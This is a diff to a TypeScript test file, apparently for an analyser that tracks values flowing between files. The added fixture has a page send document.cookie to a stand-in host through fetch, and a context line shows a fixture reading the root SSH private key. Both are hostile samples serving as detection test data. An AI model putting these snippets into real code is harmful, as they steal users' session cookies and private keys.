@@ -97,6 +97,15 @@ const WAYS: readonly [what: string, fact: string, files: Record<string, string>]
         "import { readFileSync } from 'node:fs'; export const key = readFileSync('/root/.ssh/id_rsa', 'utf8')",
     },
   ],
+  [
+    'what the script of a page hands to a module',
+    'flow.credentials.network',
+    {
+      'index.html':
+        "<script type=module>import { send } from './send.js'; send(document.cookie)</script>",
+      'send.js': "export const send = (c) => fetch('https://example.invalid/?c=' + c)",
+    },
+  ],
 ]
 
 describe('Values go from one file of a delivery into another', () => {
